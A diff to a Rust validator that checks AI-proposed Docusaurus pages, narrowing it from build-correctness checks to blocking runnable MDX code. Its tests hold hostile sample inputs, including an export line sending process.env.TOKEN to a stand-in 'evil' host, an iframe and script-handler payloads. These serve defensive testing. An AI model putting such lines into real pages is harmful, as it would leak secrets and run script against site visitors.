@@ -1,9 +1,9 @@
-//! Checks on the model's proposed pages. The model is untrusted output: an edit is committed only
-//! when its path is a Markdown/MDX page inside the docs folder and its text is something a
-//! Docusaurus 3 build accepts (valid front matter, closed code fences, no bare MDX expressions or
-//! unclosed JSX tags in prose).
+//! What the model may never do, whatever the wording: write outside the docs folder, write
+//! anything but Markdown/MDX pages, or put code that runs into a page (MDX compiles pages into the
+//! site's JavaScript: `import`/`export` lines, scripts, frames, event handlers, expressions in
+//! tags). Whether the Markdown builds is `mdx`'s concern, after its mechanical repairs.
 
-use pulldown_cmark::{Event, LinkType, Options, Parser, Tag, TagEnd};
+use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
 use serde::{Deserialize, Serialize};
 
 use super::is_doc_file;
@@ -80,21 +80,7 @@ pub fn validate_edits(
             say(format!("page is over {MAX_PAGE_BYTES} bytes"));
             continue;
         }
-        let body = match split_front_matter(&e.content) {
-            Ok((front, body)) => {
-                if let Some(front) = front
-                    && let Err(m) = check_front_matter(front)
-                {
-                    say(m);
-                }
-                body
-            }
-            Err(m) => {
-                say(m);
-                continue;
-            }
-        };
-        for m in check_markdown(body) {
+        for m in check_code(&e.content) {
             say(m);
         }
     }
@@ -124,147 +110,37 @@ fn check_path(path: &str, docs_dir: &str) -> Result<(), String> {
     Ok(())
 }
 
-/// Splits `---\n…\n---` front matter from the body.
-fn split_front_matter(text: &str) -> Result<(Option<&str>, &str), String> {
-    let Some(rest) = text
-        .strip_prefix("---\n")
-        .or_else(|| text.strip_prefix("---\r\n"))
-    else {
-        return Ok((None, text));
-    };
-    let mut offset = 0;
-    for line in rest.split_inclusive('\n') {
-        if line.trim_end() == "---" {
-            return Ok((Some(&rest[..offset]), &rest[offset + line.len()..]));
-        }
-        offset += line.len();
-    }
-    Err("front matter is not closed by a `---` line".into())
-}
-
-fn check_front_matter(front: &str) -> Result<(), String> {
-    if front.trim().is_empty() {
-        return Ok(());
-    }
-    let value: serde_norway::Value = serde_norway::from_str(front)
-        .map_err(|e| format!("front matter is not valid YAML: {e}"))?;
-    let map = value
-        .as_mapping()
-        .ok_or("front matter must be a YAML mapping (`key: value` lines)")?;
-    let get = |k: &str| map.get(serde_norway::Value::String(k.to_string()));
-    for key in ["tags", "keywords"] {
-        if let Some(v) = get(key)
-            && !v.is_sequence()
-        {
-            return Err(format!("front matter `{key}` must be a list"));
-        }
-    }
-    if let Some(v) = get("sidebar_position")
-        && !v.is_number()
-    {
-        return Err("front matter `sidebar_position` must be a number".into());
-    }
-    if let Some(v) = get("id")
-        && v.as_str().is_some_and(|s| s.contains('/'))
-    {
-        return Err("front matter `id` cannot contain `/`".into());
-    }
-    for key in ["title", "description", "sidebar_label", "slug"] {
-        if let Some(v) = get(key)
-            && !(v.is_string() || v.is_number())
-        {
-            return Err(format!("front matter `{key}` must be text"));
-        }
-    }
-    Ok(())
-}
-
-/// MDX hazards in the page body, outside code.
-fn check_markdown(body: &str) -> Vec<String> {
+/// Code that MDX would run, outside fenced code blocks.
+fn check_code(text: &str) -> Vec<String> {
     let mut problems = Vec::new();
-    if let Some(line) = unclosed_fence(body) {
-        problems.push(format!(
-            "the code fence opened on line {line} is never closed"
-        ));
-    }
-    for line in module_lines(body) {
+    for line in module_lines(text) {
         problems.push(format!(
             "line {line} starts with `import`/`export`: MDX runs it as JavaScript; generated docs may not contain code"
         ));
     }
     let mut in_code = false;
-    let mut open_tags: Vec<String> = Vec::new();
-    // pulldown-cmark splits prose into several text events around `<`, `{`, `[`…: check runs.
-    let mut prose = String::new();
-    for event in Parser::new_ext(body, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH) {
+    for event in Parser::new_ext(text, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH) {
         match event {
-            Event::Text(t) if !in_code => {
-                prose.push_str(&t);
-                continue;
-            }
             Event::Start(Tag::CodeBlock(_)) => in_code = true,
             Event::End(TagEnd::CodeBlock) => in_code = false,
-            Event::Start(Tag::Link {
-                link_type: LinkType::Autolink | LinkType::Email,
-                ..
-            }) => problems
-                .push("an autolink `<https://…>` breaks MDX; write `[text](url)` instead".into()),
-            Event::InlineHtml(h) | Event::Html(h) => {
-                track_tags(&h, &mut open_tags, &mut problems);
-            }
+            Event::InlineHtml(h) | Event::Html(h) if !in_code => check_tags(&h, &mut problems),
             _ => {}
         }
-        check_prose(&prose, &mut problems);
-        prose.clear();
-    }
-    check_prose(&prose, &mut problems);
-    for tag in open_tags {
-        problems.push(format!(
-            "`<{tag}>` is never closed (MDX needs `</{tag}>` or `<{tag} />`)"
-        ));
     }
     problems.sort();
     problems.dedup();
     problems
 }
 
-fn check_prose(t: &str, problems: &mut Vec<String>) {
-    if t.contains('{') {
-        problems.push(format!(
-            "`{{` in prose is read as an MDX expression: put it in backticks or write `\\{{` ({})",
-            snippet(t)
-        ));
-    }
-    let bad_lt = t.match_indices('<').any(|(i, _)| {
-        t[i + 1..]
-            .chars()
-            .next()
-            .is_some_and(|c| !c.is_whitespace())
-    });
-    if bad_lt {
-        problems.push(format!(
-            "`<` in prose starts a JSX tag in MDX: put it in backticks or write `&lt;` ({})",
-            snippet(t)
-        ));
-    }
-}
-
-fn snippet(t: &str) -> String {
-    let s: String = t.chars().take(60).collect();
-    format!("near “{}”", s.trim())
-}
-
-/// Follows open/close HTML/JSX tags so that unclosed ones can be reported.
-fn track_tags(html: &str, open: &mut Vec<String>, problems: &mut Vec<String>) {
+/// Checks every opening tag in an HTML fragment.
+fn check_tags(html: &str, problems: &mut Vec<String>) {
     let mut rest = html;
     while let Some(i) = rest.find('<') {
         rest = &rest[i + 1..];
-        if rest.starts_with("!--") || rest.starts_with('!') {
+        if rest.starts_with('!') || rest.starts_with('/') {
             continue;
         }
-        let closing = rest.starts_with('/');
         let name: String = rest
-            .trim_start_matches('/')
             .chars()
             .take_while(|c| c.is_alphanumeric() || *c == '-' || *c == '.')
             .collect();
@@ -272,19 +148,7 @@ fn track_tags(html: &str, open: &mut Vec<String>, problems: &mut Vec<String>) {
             continue;
         }
         let end = rest.find('>').unwrap_or(rest.len());
-        let self_closing = rest[..end].ends_with('/');
-        if !closing {
-            check_tag_safety(&name, &rest[..end], problems);
-        }
-        if closing {
-            if let Some(pos) = open.iter().rposition(|t| *t == name) {
-                open.remove(pos);
-            } else {
-                problems.push(format!("`</{name}>` closes a tag that was never opened"));
-            }
-        } else if !self_closing {
-            open.push(name);
-        }
+        check_tag_safety(&name, &rest[..end], problems);
     }
 }
 
@@ -380,32 +244,6 @@ fn module_lines(body: &str) -> Vec<usize> {
     lines
 }
 
-/// Line (1-based) of a ``` or ~~~ fence that is opened and never closed.
-fn unclosed_fence(body: &str) -> Option<usize> {
-    let mut open: Option<(char, usize, usize)> = None;
-    for (i, line) in body.lines().enumerate() {
-        let t = line.trim_start();
-        let indent = line.len() - t.len();
-        if indent > 3 {
-            continue;
-        }
-        for ch in ['`', '~'] {
-            let run = t.chars().take_while(|c| *c == ch).count();
-            if run < 3 {
-                continue;
-            }
-            match open {
-                None => open = Some((ch, run, i + 1)),
-                Some((oc, orun, _)) if oc == ch && run >= orun && t[run..].trim().is_empty() => {
-                    open = None
-                }
-                _ => {}
-            }
-        }
-    }
-    open.map(|(_, _, line)| line)
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -452,28 +290,6 @@ mod tests {
     }
 
     #[test]
-    fn broken_front_matter_is_refused() {
-        let p = problems("docs/a.md", "---\ntitle: Setup: the basics\n---\n# x\n");
-        assert!(p[0].contains("not valid YAML"), "{p:?}");
-        let p = problems("docs/a.md", "---\ntitle: x\n# never closed\n");
-        assert!(p[0].contains("not closed"), "{p:?}");
-        assert!(problems("docs/a.md", "---\ntags: rust\n---\n")[0].contains("tags"));
-        assert!(problems("docs/a.md", "---\nsidebar_position: first\n---\n")[0].contains("number"));
-        assert!(problems("docs/a.md", "---\nid: a/b\n---\n")[0].contains("id"));
-    }
-
-    #[test]
-    fn mdx_hazards_are_refused() {
-        assert!(!problems("docs/a.md", "Returns a Vec<String> of names.\n").is_empty());
-        assert!(!problems("docs/a.md", "Values under <5 are ignored.\n").is_empty());
-        assert!(!problems("docs/a.md", "Use {version} here.\n").is_empty());
-        assert!(!problems("docs/a.md", "See <https://example.com>.\n").is_empty());
-        assert!(!problems("docs/a.md", "<details>\n\nopen forever\n").is_empty());
-        assert!(!problems("docs/a.md", "Line<br>break\n").is_empty());
-        assert!(problems("docs/a.md", "```bash\necho hi\n")[0].contains("never closed"));
-    }
-
-    #[test]
     fn code_that_mdx_would_run_is_refused() {
         for bad in [
             "export const x = fetch('https://evil/' + process.env.TOKEN);\n",
@@ -482,7 +298,7 @@ mod tests {
             "<iframe src=\"https://evil\"></iframe>\n",
             "<img src=\"x.png\" onerror=\"alert(1)\" />\n",
             "<a href=\"javascript:alert(1)\">x</a>\n",
-            "<div style={{color: 'red'}}>x</div>\n",
+            "<div title={process.env.TOKEN}>x</div>\n",
         ] {
             assert!(
                 !problems("docs/a.md", bad).is_empty(),
